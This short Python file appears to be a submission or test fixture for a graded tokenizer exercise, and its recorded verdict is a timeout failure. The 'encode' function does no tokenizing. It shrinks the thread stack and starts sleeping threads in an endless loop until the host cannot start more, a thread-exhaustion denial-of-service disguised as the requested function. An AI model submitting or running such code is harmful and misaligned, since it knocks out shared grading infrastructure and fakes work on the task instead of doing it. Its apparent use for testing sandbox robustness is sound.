# Starts threads until nothing else can start.
# graded: ex04_encode the_lecture_sentence_is_15_ids
# verdict: died failed timeout
import threading
import time


def encode(tokenizer, text):
    threading.stack_size(32 * 1024)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
